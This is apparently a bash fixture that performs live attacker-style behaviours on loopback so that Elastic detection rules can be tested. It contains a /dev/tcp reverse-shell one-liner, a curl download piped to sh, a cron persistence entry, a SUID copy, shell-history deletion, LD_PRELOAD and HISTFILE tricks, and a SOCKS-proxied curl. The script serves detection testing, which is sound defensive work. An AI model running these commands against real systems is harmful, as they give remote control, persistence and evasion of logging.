#!/bin/bash
# issue-16 live behaviours for test/kernel/elastic-rules.test.ts, each done for
# real: a reverse shell (nohup bash -i >& /dev/tcp/…), `curl … | sh`, a cron job
# written (in a private mount namespace over tmpfs: the host's cron is
# untouched), a SUID bit set, the shell history deleted, LD_PRELOAD, HISTFILE
# and a SOCKS proxy in a process's environment. Every peer is on
# loopback (127.0.0.2 for the download: the rule leaves 127.0.0.1 alone).
# Takes: a scratch directory ($1) and a marker ($2) run last as an argument.
set -u
W=$1 MARK=$2
PY=$(command -v python3)
cd "$W" || exit 1
printf 'id\n' > payload.sh
"$PY" -m http.server 18191 --bind 127.0.0.2 --directory "$W" >/dev/null 2>&1 & HTTP=$!
"$PY" -c "import socket
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 18192)); s.listen(1); s.settimeout(15)
c,_=s.accept(); c.sendall(b'exit\n'); c.settimeout(2)
try: c.recv(100)
except Exception: pass" & LISTENER=$!
for _ in $(seq 100); do curl -s -o /dev/null http://127.0.0.2:18191/ && break; sleep 0.1; done
for _ in $(seq 100); do ss -Hltn 'sport = :18192' | grep -q . && break; sleep 0.1; done
# reverse shell through a background process, started by this shell (the rule wants a shell parent);
# the listener sends `exit`, so it ends by itself
nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/18192 0>&1' >/dev/null 2>&1
# download piped to a shell
curl -s http://127.0.0.2:18191/payload.sh | sh >/dev/null
# cron persistence
unshare -m bash -c 'mount -t tmpfs none /etc/cron.d && echo "* * * * * root /tmp/x" > /etc/cron.d/elastic-test'
# SUID bit
cp /usr/bin/id ./suid-id && chmod u+s ./suid-id
# shell history deleted
touch .bash_history && rm -f .bash_history
# a library preloaded through the environment (the file need not exist: ld.so warns and goes on)
LD_PRELOAD="$W/preload.so" id >/dev/null 2>&1
# a shell told to keep no history
HISTFILE=/dev/null bash -c 'true'
# curl through a SOCKS proxy named only in its environment (nothing listens on port 9: it fails fast)
ALL_PROXY=socks5h://127.0.0.1:9 curl -s -m 2 -o /dev/null http://127.0.0.2:18191/
kill "$HTTP" 2>/dev/null; wait "$HTTP" 2>/dev/null; wait "$LISTENER" 2>/dev/null
/bin/true "$MARK"
